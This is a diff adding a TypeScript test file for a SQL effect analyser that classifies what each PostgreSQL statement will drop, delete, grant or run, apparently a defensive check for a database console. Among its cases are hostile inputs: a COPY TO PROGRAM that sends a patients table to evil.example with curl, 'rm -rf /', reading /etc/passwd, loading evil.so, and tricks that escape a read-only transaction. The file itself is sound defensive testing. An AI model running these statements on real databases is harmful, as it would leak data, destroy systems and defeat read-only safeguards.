@@ -1,0 +1,374 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { describeEffects, effectKey, type Effect } from '../../src/analysis/effects.js';
+import { analyzeSql, analyzeSqlAsync, loadSqlParser } from '../../src/analysis/sql.js';
+import { generateMigration } from '../fixtures/sql-migration.js';
+
+// Each effect in one line: `verb:object name [detail]`.
+const line = (effect: Effect) =>
+  `${effectKey(effect)}${effect.name ? ` ${effect.name}` : ''}${effect.detail ? ` [${effect.detail}]` : ''}`;
+const lines = (sql: string, options?: { readOnly?: boolean }) => analyzeSql(sql, options).map(line);
+
+const RUNS = 'not known to be free of side effects';
+
+beforeAll(async () => {
+  await loadSqlParser();
+});
+
+/** SQL → the effects it must produce, in order. */
+const CASES: Array<[sql: string, effects: string[]]> = [
+  // ---- DROP, whatever the spelling ----
+  ['DROP table "public"."patients";', ['drop:table public.patients']], // the console's exact body
+  ['drop /* x */ TABLE\n  public . patients  cascade', ['drop:table public.patients [CASCADE]']],
+  ['DrOp TaBlE patients', ['drop:table patients']],
+  ['-- drop nothing\nDROP TABLE a, public.b RESTRICT', ['drop:table a', 'drop:table public.b']],
+  ['DROP TABLE IF EXISTS public."Order Items"', ['drop:table public.Order Items']], // quoted case kept, quotes not
+  ['DROP VIEW public.v', ['drop:view public.v']],
+  ['DROP MATERIALIZED VIEW mv CASCADE', ['drop:materialized_view mv [CASCADE]']],
+  ['DROP INDEX CONCURRENTLY public.idx', ['drop:index public.idx']],
+  ['DROP SEQUENCE s', ['drop:sequence s']],
+  ['DROP FUNCTION public.f(int), g', ['drop:function public.f', 'drop:function g']],
+  ['DROP PROCEDURE p()', ['drop:function p']],
+  ['DROP TRIGGER audit ON public.patients', ['drop:trigger audit on public.patients']],
+  ['DROP TYPE mood', ['drop:type mood']],
+  ['DROP DOMAIN email', ['drop:type email']],
+  ['DROP EXTENSION dblink', ['drop:extension dblink']],
+  ['DROP SCHEMA public CASCADE', ['drop:schema public [CASCADE]']],
+  ['DROP DATABASE production', ['drop:database production']],
+  ['DROP POLICY own_rows ON patients', ['drop:policy own_rows on patients']],
+  ['DROP RULE r ON t', ['drop:unknown r on t [rule]']], // no word for rules in the effect model: unknown + kind
+  ['DROP CAST (int AS text)', ['drop:unknown int4 AS text [cast]']],
+  ['DROP ROLE app, "Reader"', ['drop:role app', 'drop:role Reader']],
+  ['DROP USER bob', ['drop:role bob']],
+  ['drop owned by app', ['drop:owned app']],
+  ['DROP OWNED BY app, bob CASCADE', ['drop:owned app, bob [CASCADE]']],
+  ['REASSIGN OWNED BY app TO postgres', ['modify:owned app [to postgres]']],
+  ['DROP SUBSCRIPTION sub', ['drop:unknown [subscription]']],
+
+  // ---- ALTER TABLE ----
+  ['ALTER TABLE public.patients DROP COLUMN ssn', ['drop:column public.patients.ssn']],
+  ['ALTER TABLE patients DROP COLUMN IF EXISTS ssn CASCADE', ['drop:column patients.ssn [CASCADE]']],
+  ['ALTER TABLE public.t DROP CONSTRAINT t_fkey', ['drop:constraint t_fkey on public.t']],
+  ['ALTER TABLE t ALTER COLUMN age TYPE bigint', ['rewrite:column t.age [type int8]']],
+  ['ALTER TABLE t ALTER COLUMN note TYPE varchar(10) USING left(note, 10)', ['rewrite:column t.note [type varchar]']],
+  ['ALTER TABLE t RENAME TO u', ['rename:table t [to u]']],
+  ['ALTER TABLE public.t RENAME COLUMN a TO b', ['rename:column public.t.a [to b]']],
+  ['ALTER TABLE t RENAME CONSTRAINT c1 TO c2', ['rename:constraint c1 on t [to c2]']],
+  ['ALTER TABLE t ADD COLUMN email text', ['add:column t.email']],
+  ['ALTER TABLE t ADD COLUMN IF NOT EXISTS n int NOT NULL DEFAULT 0', ['add:column t.n']],
+  // A volatile default runs for every existing row now: the function counts.
+  ['ALTER TABLE t ADD COLUMN token text DEFAULT make_token()', ['add:column t.token', `run:function make_token [${RUNS}]`]],
+  ['ALTER TABLE t ADD CONSTRAINT t_pos CHECK (n > 0)', ['add:constraint t_pos on t']],
+  ['ALTER TABLE t ADD FOREIGN KEY (a) REFERENCES u (id)', ['add:constraint foreign on t']], // unnamed: its kind
+  ['ALTER TABLE t ALTER COLUMN a SET NOT NULL', ['modify:column t.a [set not null]']],
+  ['ALTER TABLE t ALTER COLUMN a DROP NOT NULL', ['modify:column t.a [drop not null]']],
+  ['ALTER TABLE t ALTER COLUMN a SET DEFAULT 1', ['modify:column t.a [column default]']],
+  ['ALTER TABLE t ENABLE ROW LEVEL SECURITY', ['modify:table t [enable row security]']],
+  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['modify:table t [disable row security]']],
+  ['ALTER TABLE t DISABLE TRIGGER audit', ['modify:table t [disable trig, audit]']],
+  ['ALTER TABLE t OWNER TO mallory', ['modify:table t [owner to mallory]']],
+  ['ALTER TABLE t SET TABLESPACE slow', ['modify:table t [set table space, slow]']],
+  ['ALTER TABLE t DROP COLUMN a, ADD COLUMN b int', ['drop:column t.a', 'add:column t.b']],
+  ['ALTER TABLE t VALIDATE CONSTRAINT c', ['modify:constraint c on t [validate constraint]']],
+  ['ALTER TABLE t SET SCHEMA archive', ['modify:table t [set schema archive]']],
+  ['ALTER VIEW v RENAME TO w', ['rename:view v [to w]']],
+  ['ALTER INDEX i RENAME TO j', ['rename:index i [to j]']],
+  ['ALTER SCHEMA s RENAME TO r', ['rename:schema s [to r]']],
+  ['ALTER FUNCTION f(int) RENAME TO g', ['rename:function f [to g]']],
+  ['ALTER FUNCTION f(int) SECURITY DEFINER', ['modify:function f']],
+  ['ALTER SEQUENCE s RESTART WITH 1', ['modify:sequence s']],
+  ['ALTER TYPE mood ADD VALUE \'meh\'', ['modify:type mood [value meh]']],
+  ['ALTER DOMAIN email DROP CONSTRAINT email_check', ['drop:constraint email_check on email']],
+  ['ALTER EXTENSION postgis UPDATE', ['modify:extension postgis']],
+  ['ALTER FUNCTION f() OWNER TO bob', ['modify:function f [owner to bob]']],
+  ['ALTER ROLE app SUPERUSER', ['modify:role app [superuser]']],
+  ['ALTER ROLE app PASSWORD \'hunter2\'', ['modify:role app [password]']], // the option, never its value
+  ['ALTER DATABASE prod SET work_mem = \'1GB\'', ['modify:database prod [setting work_mem]']],
+  ['ALTER POLICY p ON t USING (true)', ['modify:policy p on t']],
+
+  // ---- rows ----
+  ['TRUNCATE patients', ['delete:all_rows patients [every row]']],
+  ['TRUNCATE TABLE a, public.b RESTART IDENTITY CASCADE', ['delete:all_rows a [every row, CASCADE, RESTART IDENTITY]', 'delete:all_rows public.b [every row, CASCADE, RESTART IDENTITY]']],
+  ['DELETE FROM patients', ['delete:all_rows patients [every row]']],
+  ['DELETE FROM public.patients WHERE id = 1', ['delete:rows public.patients']],
+  ['DELETE FROM patients WHERE true', ['delete:all_rows patients [every row]']], // names no column: all or none
+  ['delete from patients where 1 = 1', ['delete:all_rows patients [every row]']],
+  ['DELETE FROM t USING u WHERE t.id = u.id', ['delete:rows t']],
+  ['UPDATE patients SET name = NULL', ['rewrite:all_rows patients [every row]']],
+  ['UPDATE patients SET name = upper(name) WHERE id > 10', ['rewrite:rows patients']],
+  ['UPDATE t SET n = nextval(\'s\') WHERE id = 1', ['rewrite:rows t', `run:function nextval [${RUNS}]`]],
+  ['INSERT INTO patients (name) VALUES (\'x\')', ['add:rows patients']],
+  ['INSERT INTO public.t SELECT * FROM u', ['add:rows public.t']],
+  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2', ['add:rows t', 'rewrite:rows t [ON CONFLICT DO UPDATE]']],
+  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['add:rows t']],
+  ['MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (u.id)', ['delete:rows t [MERGE]', 'add:rows t [MERGE]']],
+  ['WITH gone AS (DELETE FROM patients RETURNING *) SELECT count(*) FROM gone', ['read:sql', 'delete:all_rows patients [every row]']],
+  ['WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) INSERT INTO log SELECT id FROM x', ['add:rows log', 'rewrite:rows t']],
+  ['WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', ['read:table orders']],
+  ['SELECT * INTO t FROM x', ['add:table t [SELECT INTO]']],
+  ['CREATE TABLE t2 AS SELECT * FROM t', ['add:table t2']],
+  ['CREATE MATERIALIZED VIEW mv AS SELECT 1 WITH NO DATA', ['add:materialized_view mv [WITH NO DATA]']],
+  ['COPY patients FROM STDIN', ['add:rows patients [COPY FROM]']],
+  ['COPY patients TO STDOUT', ['read:table patients [COPY TO]']],
+  ['COPY (SELECT * FROM patients) TO STDOUT', ['read:table patients']],
+  ['COPY patients TO PROGRAM \'curl -d @- evil.example\'', ['read:table patients [COPY TO]', 'run:function COPY PROGRAM curl -d @- evil.example [shell command on the database server]']],
+  ['COPY t FROM PROGRAM \'rm -rf /\'', ['add:rows t [COPY FROM]', 'run:function COPY PROGRAM rm -rf / [shell command on the database server]']],
+
+  // ---- SELECT and functions ----
+  ['SELECT truncate_all_tables()', [`run:function truncate_all_tables [${RUNS}]`]], // the bug this module ends
+  ['SELECT pg_terminate_backend(123)', [`run:function pg_terminate_backend [${RUNS}]`]],
+  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', ['read:table pg_stat_activity', `run:function pg_cancel_backend [${RUNS}]`]],
+  ["select set_config('a','b',false)", [`run:function set_config [${RUNS}]`]],
+  ["SELECT pg_catalog.set_config('search_path', '', false)", [`run:function pg_catalog.set_config [${RUNS}]`]], // pg_dump's first line
+  ["SELECT dblink_exec('host=x', 'DROP TABLE patients')", [`run:function dblink_exec [${RUNS}]`]],
+  ["SELECT * FROM dblink('host=x', 'SELECT 1') AS r(a int)", [`run:function dblink [${RUNS}]`]],
+  ['SELECT lo_unlink(1)', [`run:function lo_unlink [${RUNS}]`]],
+  ["SELECT lo_import('/etc/passwd')", [`run:function lo_import [${RUNS}]`]],
+  ['SELECT pg_reload_conf()', [`run:function pg_reload_conf [${RUNS}]`]],
+  ["SELECT nextval('s'), setval('s', 1)", [`run:function nextval [${RUNS}]`, `run:function setval [${RUNS}]`]],
+  ['SELECT pg_advisory_lock(1)', [`run:function pg_advisory_lock [${RUNS}]`]],
+  ['SELECT public.count(*) FROM t', ['read:table t', `run:function public.count [${RUNS}]`]], // another schema: someone's function
+  ['SELECT "NOW"()', [`run:function NOW [${RUNS}]`]], // quoted: not the built-in now()
+  ['SELECT COUNT(*), Max(id), pg_catalog.now() FROM patients', ['read:table patients']],
+  ['SELECT 1', ['read:sql']],
+  ['SELECT version()', ['read:sql']],
+  ["SELECT current_setting('server_version_num')", ['read:sql']],
+  ['SELECT * FROM t WHERE id IN (SELECT evil(id) FROM u)', ['read:table t', 'read:table u', `run:function evil [${RUNS}]`]],
+  ['SELECT * FROM t, LATERAL (SELECT side_effect(t.id)) s', ['read:table t', `run:function side_effect [${RUNS}]`]],
+  ['SELECT * FROM t ORDER BY f(t.a)', ['read:table t', `run:function f [${RUNS}]`]],
+  ['SELECT a FROM t UNION SELECT g(b) FROM u', ['read:table t', 'read:table u', `run:function g [${RUNS}]`]],
+  ['SELECT 1 OPERATOR(evil.+) 2', [`run:function OPERATOR(evil.+) [${RUNS}]`]],
+  ['SELECT * FROM generate_series(1, 10) g', ['read:sql']],
+  ["SELECT to_char(now(), 'YYYY'), date_trunc('day', now()), length(lower('A')), jsonb_build_object('a', 1) -> 'a'", ['read:sql']],
+  ['SELECT row_number() OVER (ORDER BY id), string_agg(name, \',\') FROM patients GROUP BY id', ['read:table patients']],
+  ['SELECT * FROM patients FOR UPDATE', ['read:table patients [locks rows]']],
+  ['TABLE patients', ['read:table patients']],
+  ['VALUES (1), (2)', ['read:sql']],
+  [
+    // A console-style introspection query (read_only run_sql), written here in the shape of the console's own.
+    `SELECT COALESCE(json_agg(row_to_json(info)), '[]'::JSON)
+     FROM (
+       SELECT pgn.nspname AS table_schema, pgc.relname AS table_name,
+         obj_description(pgc.oid) AS comment,
+         COALESCE(json_agg(DISTINCT row_to_json(isc)::jsonb || jsonb_build_object('comment', col_description(pga.attrelid, pga.attnum)))
+           FILTER (WHERE isc.column_name IS NOT NULL), '[]'::json) AS columns,
+         CASE WHEN pg_has_role(pgc.relowner, 'USAGE') THEN pg_get_viewdef(pgc.oid) END AS view_definition,
+         CASE WHEN pg_relation_is_updatable(pgc.oid, false) & 20 = 20 THEN 'YES' ELSE 'NO' END AS is_updatable
+       FROM pg_class pgc
+       JOIN pg_namespace pgn ON pgc.relnamespace = pgn.oid
+       LEFT JOIN pg_attribute pga ON pga.attrelid = pgc.oid
+       LEFT JOIN (
+         SELECT c.relname AS table_name, a.attname AS column_name, pg_get_expr(ad.adbin, ad.adrelid) AS column_default,
+                format_type(a.atttypid, null) AS data_type
+         FROM pg_attribute a LEFT JOIN pg_attrdef ad ON a.attrelid = ad.adrelid AND a.attnum = ad.adnum
+         JOIN pg_class c ON a.attrelid = c.oid
+         WHERE NOT pg_is_other_temp_schema(c.relnamespace) AND a.attnum > 0
+           AND (pg_has_role(c.relowner, 'USAGE') OR has_column_privilege(c.oid, a.attnum, 'SELECT, INSERT, UPDATE, REFERENCES'))
+       ) AS isc ON isc.table_name = pgc.relname AND isc.column_name = pga.attname
+       WHERE pgc.relkind IN ('r', 'v', 'f', 'm', 'p') AND pgn.nspname = 'public'
+       GROUP BY pgc.oid, pgn.nspname, pgc.relname
+     ) AS info;`,
+    ['read:table pg_class', 'read:table pg_namespace', 'read:table pg_attribute', 'read:table pg_attrdef'],
+  ],
+  [
+    // The console's foreign-key introspection, in the same style.
+    `SELECT COALESCE(json_agg(row_to_json(info)), '[]'::JSON) FROM (
+       SELECT q.table_schema::text, min(q.ref_table::text) AS ref_table, json_object_agg(ac.attname, afc.attname) AS column_mapping
+       FROM (SELECT ctn.nspname AS table_schema, cft.relname AS ref_table, r.conrelid AS table_id, r.confrelid AS ref_table_id,
+                    unnest(r.conkey) AS column_id, unnest(r.confkey) AS ref_column_id
+             FROM pg_catalog.pg_constraint r JOIN pg_class ct ON r.conrelid = ct.oid
+             JOIN pg_namespace ctn ON ct.relnamespace = ctn.oid JOIN pg_class cft ON r.confrelid = cft.oid
+             WHERE r.contype = 'f'::"char") q
+       JOIN pg_attribute ac ON q.column_id = ac.attnum AND q.table_id = ac.attrelid
+       JOIN pg_attribute afc ON q.ref_column_id = afc.attnum AND q.ref_table_id = afc.attrelid
+       GROUP BY q.table_schema) AS info`,
+    ['read:table pg_catalog.pg_constraint', 'read:table pg_class', 'read:table pg_namespace', 'read:table pg_attribute'],
+  ],
+  ["SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", ['read:table information_schema.tables']],
+
+  // ---- CREATE, CREATE OR REPLACE ----
+  ['CREATE TABLE public.t (id int PRIMARY KEY, token text DEFAULT gen())', ['add:table public.t']], // the default runs later, for new rows
+  ['CREATE TEMP TABLE scratch (a int)', ['add:table scratch [temporary]']],
+  ['CREATE VIEW v AS SELECT evil() FROM t', ['add:view v']], // stored, not run now
+  ['CREATE OR REPLACE VIEW v AS SELECT 1', ['replace:view v']],
+  ['CREATE INDEX ON public.t (lower(a))', ['add:index unnamed [on public.t]']],
+  ['CREATE UNIQUE INDEX t_a ON t (a)', ['add:index t_a [on t]']],
+  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', ['add:function f']],
+  ["CREATE OR REPLACE FUNCTION public.f() RETURNS trigger AS $$ BEGIN DELETE FROM patients; RETURN NULL; END $$ LANGUAGE plpgsql", ['replace:function public.f']],
+  ['CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$', ['add:function p [procedure]']],
+  ['CREATE SCHEMA archive', ['add:schema archive']],
+  ['CREATE SCHEMA s CREATE TABLE s.t (a int)', ['add:schema s', 'add:table s.t']],
+  ['CREATE SEQUENCE s', ['add:sequence s']],
+  ["CREATE TYPE mood AS ENUM ('ok', 'sad')", ['add:type mood [enum]']],
+  ['CREATE TYPE pair AS (a int, b int)', ['add:type pair']],
+  ['CREATE DOMAIN email AS text CHECK (VALUE LIKE \'%@%\')', ['add:type email [domain]']],
+  ['CREATE TRIGGER audit AFTER DELETE ON patients FOR EACH ROW EXECUTE FUNCTION log_it()', ['add:trigger audit on patients']],
+  ['CREATE OR REPLACE TRIGGER audit AFTER DELETE ON patients FOR EACH ROW EXECUTE FUNCTION log_it()', ['replace:trigger audit on patients']],
+  ['CREATE OR REPLACE RULE r AS ON DELETE TO t DO INSTEAD NOTHING', ['replace:unknown r on t [rule]']],
+  ['CREATE EXTENSION IF NOT EXISTS dblink', ['add:extension dblink']],
+  ['CREATE POLICY own ON patients FOR SELECT TO anonymous USING (owner = current_user)', ['add:policy own on patients [permissive, for SELECT, to anonymous]']],
+  ['CREATE AGGREGATE mysum (int) (sfunc = int4pl, stype = int)', ['add:function mysum']],
+  ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', ['add:unknown [event trigger]']],
+  ['CREATE DATABASE copy', ['add:database copy']],
+
+  // ---- privileges and roles ----
+  ['GRANT SELECT ON patients TO anonymous', ['grant:privilege patients [SELECT to anonymous]']],
+  ['GRANT ALL ON TABLE public.a, b TO app WITH GRANT OPTION', ['grant:privilege public.a [ALL to app, WITH GRANT OPTION]', 'grant:privilege b [ALL to app, WITH GRANT OPTION]']],
+  ['GRANT UPDATE (name) ON patients TO PUBLIC', ['grant:privilege patients [UPDATE (name) to PUBLIC]']],
+  ['REVOKE SELECT ON patients FROM anonymous', ['revoke:privilege patients [SELECT from anonymous]']],
+  ['GRANT USAGE ON SCHEMA public TO anonymous', ['grant:privilege public [USAGE on schema to anonymous]']],
+  ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO anonymous', ['grant:privilege all tables in schema public [SELECT to anonymous]']],
+  ['GRANT EXECUTE ON FUNCTION f(int) TO anonymous', ['grant:privilege f [EXECUTE on function to anonymous]']],
+  ['ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO anonymous', ['grant:privilege future tables in schema public [SELECT to anonymous]']],
+  ['GRANT admin TO app', ['grant:role admin [to app]']],
+  ['REVOKE admin FROM app', ['revoke:role admin [from app]']],
+  ["CREATE ROLE app LOGIN PASSWORD 'secret'", ['add:role app [canlogin, password]']],
+  ['CREATE USER bob', ['add:role bob']],
+
+  // ---- comments, settings, transactions, code ----
+  ["COMMENT ON TABLE public.patients IS 'who we treat'", ['comment:table public.patients']],
+  ["COMMENT ON COLUMN public.patients.ssn IS 'secret'", ['comment:column public.patients.ssn']],
+  ['COMMENT ON FUNCTION f(int) IS NULL', ['comment:function f']],
+  ['SET LOCAL statement_timeout = 10000;', ['read:setting statement_timeout [SET LOCAL 10000]']], // the console's
+  ["SET lock_timeout = '5s'", ['read:setting lock_timeout [SET 5s]']],
+  ["SET search_path TO evil, public", ['modify:setting search_path [SET evil, public]']], // decides which function a name calls
+  ['SET ROLE postgres', ['modify:setting role [SET postgres]']],
+  ['RESET ALL', ['modify:setting all [RESET]']],
+  ['SHOW server_version', ['read:setting server_version']],
+  ['SET CONSTRAINTS ALL DEFERRED', ['read:setting constraints [DEFERRED]']],
+  ['BEGIN', []],
+  ['BEGIN; SAVEPOINT a; ROLLBACK TO a; COMMIT;', []],
+  ['DO $$ BEGIN EXECUTE \'DROP TABLE patients\'; END $$', [`run:function DO block [${RUNS}]`]],
+  ['CALL archive_old(30)', [`run:function archive_old [procedure, ${RUNS}]`]],
+  ["LOAD 'evil.so'", [`run:function LOAD evil.so [shared library, ${RUNS}]`]],
+  ['EXPLAIN SELECT * FROM patients', ['read:sql [EXPLAIN]']],
+  ['EXPLAIN DELETE FROM patients', ['read:sql [EXPLAIN]']], // planned, not run
+  ['EXPLAIN ANALYZE DELETE FROM patients', ['delete:all_rows patients [every row]']],
+  ['EXPLAIN (ANALYZE, FORMAT JSON) SELECT evil()', [`run:function evil [${RUNS}]`]],
+  ['EXPLAIN (ANALYZE false) DELETE FROM patients', ['read:sql [EXPLAIN]']],
+  ['LOCK TABLE patients IN ACCESS EXCLUSIVE MODE', ['modify:table patients [LOCK ACCESS EXCLUSIVE]']], // blocks everyone till the end
+  ['VACUUM patients', ['read:table patients [VACUUM]']], // no row or definition changes
+  ['VACUUM FULL patients', ['modify:table patients [VACUUM FULL]']], // rewrites under an exclusive lock
+  ['ANALYZE', ['read:table [ANALYZE, every table]']],
+  ['REFRESH MATERIALIZED VIEW mv', ['modify:materialized_view mv [REFRESH]']],
+  ['CLUSTER patients USING patients_pkey', ['modify:table patients [CLUSTER]']],
+  ['REINDEX TABLE patients', ['modify:index patients [REINDEX]']],
+  ['ALTER SYSTEM SET work_mem = \'1GB\'', ['unknown:sql [AlterSystemStmt]']], // not classified: fail closed
+  ['NOTIFY channel', ['unknown:sql [NotifyStmt]']],
+  ['PREPARE p AS DELETE FROM patients', ['delete:all_rows patients [every row]']], // what it will do when executed
+  ['EXECUTE p', ['unknown:sql [ExecuteStmt]']],
+
+  // ---- SQL that is not a statement ----
+  ['', ['unknown:sql [no statement]']],
+  ['   \n\t ', ['unknown:sql [no statement]']],
+  ['-- only a comment\n/* and another */', ['unknown:sql [no statement]']],
+  [';;', ['unknown:sql [no statement]']],
+  ['DROP TABEL patients', ['unknown:sql [does not parse: syntax error at or near "TABEL"]']],
+  ["SELECT 'unterminated", ['unknown:sql [does not parse: unterminated quoted string at or near "\'unterminated"]']],
+  ['DELETE FROM patients; DROP', ['unknown:sql [does not parse: syntax error at end of input]']], // one bad statement: the whole body
+];
+
+describe('analyzeSql: each statement kind', () => {
+  it('has at least 120 cases', () => {
+    expect(CASES.length).toBeGreaterThanOrEqual(120);
+  });
+
+  it.each(CASES)('%s', (sql, expected) => {
+    expect(lines(sql)).toEqual(expected);
+  });
+});
+
+describe('analyzeSql: statements and positions', () => {
+  it('numbers the statements of a multi-statement body, 1-based, after the caller’s `at`', () => {
+    const effects = analyzeSql('SET LOCAL statement_timeout = 1; SELECT 1; DROP TABLE a; TRUNCATE b', { at: 'args[1]' });
+    expect(effects.map((effect) => `${effect.at}: ${line(effect)}`)).toEqual([
+      'args[1], statement 1: read:setting statement_timeout [SET LOCAL 1]',
+      'args[1], statement 2: read:sql',
+      'args[1], statement 3: drop:table a',
+      'args[1], statement 4: delete:all_rows b [every row]',
+    ]);
+  });
+
+  it('says `statement N` alone without a caller `at`, and nothing for SQL that does not parse', () => {
+    expect(analyzeSql('SELECT 1;\nDROP TABLE a;').map((effect) => effect.at)).toEqual(['statement 1', 'statement 2']);
+    expect(analyzeSql('DROP', { at: 'args[0]' })[0]?.at).toBe('args[0]');
+  });
+
+  it('reads as a sentence a user can check', () => {
+    expect(describeEffects(analyzeSql('DROP table "public"."patients";'))).toBe('drops table public.patients');
+    expect(describeEffects(analyzeSql('DELETE FROM patients'))).toBe('deletes every row of patients (every row)');
+  });
+
+  it('reports a function called twice once per statement', () => {
+    expect(lines('SELECT evil(1), evil(2); SELECT evil(3)')).toEqual([`run:function evil [${RUNS}]`, `run:function evil [${RUNS}]`]);
+  });
+
+  it('answers the same through analyzeSqlAsync', async () => {
+    expect((await analyzeSqlAsync('DROP SCHEMA public CASCADE')).map(line)).toEqual(['drop:schema public [CASCADE]']);
+  });
+
+  it('fails closed on SQL nested deeper than the parser goes', () => {
+    const deep = `SELECT ${'('.repeat(10_000)}1${')'.repeat(10_000)}`;
+    expect(lines(deep)).toEqual(['unknown:sql [does not parse: memory exhausted at or near "("]']);
+  });
+});
+
+describe('analyzeSql: read-only transactions (run_sql with read_only: true)', () => {
+  const readOnly = (sql: string) => lines(sql, { readOnly: true });
+  const REFUSED = 'read:sql [refused by a read-only transaction]';
+
+  it('turns what PostgreSQL refuses in a read-only transaction into read:sql', () => {
+    expect(readOnly('DROP TABLE patients')).toEqual([REFUSED]);
+    expect(readOnly('DELETE FROM patients')).toEqual([REFUSED]);
+    expect(readOnly('GRANT SELECT ON patients TO anonymous')).toEqual([REFUSED]);
+    expect(readOnly('SELECT * INTO t FROM x')).toEqual([REFUSED]);
+    expect(readOnly('WITH d AS (DELETE FROM a RETURNING 1) SELECT * FROM d')).toEqual([REFUSED]);
+    expect(readOnly('EXPLAIN ANALYZE DELETE FROM patients')).toEqual([REFUSED]);
+    expect(readOnly('LOCK patients')).toEqual([REFUSED]); // ACCESS EXCLUSIVE by default
+    expect(readOnly('COPY patients FROM STDIN')).toEqual([REFUSED]);
+  });
+
+  it('keeps what it lets through as it is', () => {
+    expect(readOnly('SELECT count(*) FROM patients')).toEqual(['read:table patients']);
+    expect(readOnly('SET LOCAL statement_timeout = 10000')).toEqual(['read:setting statement_timeout [SET LOCAL 10000]']);
+    expect(readOnly('LOCK patients IN ACCESS SHARE MODE')).toEqual(['modify:table patients [LOCK ACCESS SHARE]']);
+    expect(readOnly('COPY patients TO STDOUT')).toEqual(['read:table patients [COPY TO]']);
+  });
+
+  it('still counts function calls: they work inside a read-only transaction', () => {
+    expect(readOnly('SELECT pg_terminate_backend(123)')).toEqual([`run:function pg_terminate_backend [${RUNS}]`]);
+    expect(readOnly("SELECT dblink_exec('host=x', 'DROP TABLE patients')")).toEqual([`run:function dblink_exec [${RUNS}]`]);
+    expect(readOnly('DO $$ BEGIN PERFORM 1; END $$')).toEqual([`run:function DO block [${RUNS}]`]);
+    expect(readOnly('INSERT INTO t SELECT evil()')).toEqual([REFUSED, `run:function evil [${RUNS}]`]);
+  });
+
+  it('ignores read_only when the SQL can leave the read-only transaction', () => {
+    // COMMIT ends Hasura's read-only transaction: what follows runs in a writable one.
+    expect(readOnly('COMMIT; DROP TABLE patients')).toEqual(['drop:table patients']);
+    expect(readOnly('ROLLBACK; DELETE FROM patients')).toEqual(['delete:all_rows patients [every row]']);
+    // Before the first query, SET TRANSACTION READ WRITE lifts the read-only mode.
+    expect(readOnly('SET TRANSACTION READ WRITE; DROP TABLE patients')).toEqual([
+      'modify:setting TRANSACTION [SET …]',
+      'drop:table patients',
+    ]);
+    expect(readOnly('SET transaction_read_only = off; DROP TABLE patients')).toEqual([
+      'modify:setting transaction_read_only [SET off]',
+      'drop:table patients',
+    ]);
+  });
+});
+
+describe('analyzeSql on a 1 MB migration', () => {
+  it('analyses every statement and yields exactly the expected effects', () => {
+    const migration = generateMigration(1_000_000);
+    expect(migration.sql.length).toBeGreaterThanOrEqual(1_000_000);
+    expect(migration.statements).toBeGreaterThan(4_000);
+
+    const effects = analyzeSql(migration.sql);
+    const counts: Record<string, number> = {};
+    for (const effect of effects) counts[effectKey(effect)] = (counts[effectKey(effect)] ?? 0) + 1;
+
+    expect(counts).toEqual(migration.expected);
+    expect(effects.at(-1)?.at).toMatch(/^statement \d+$/);
+    expect(new Set(effects.map((effect) => effect.at)).size).toBe(migration.statements);
+  });
+});
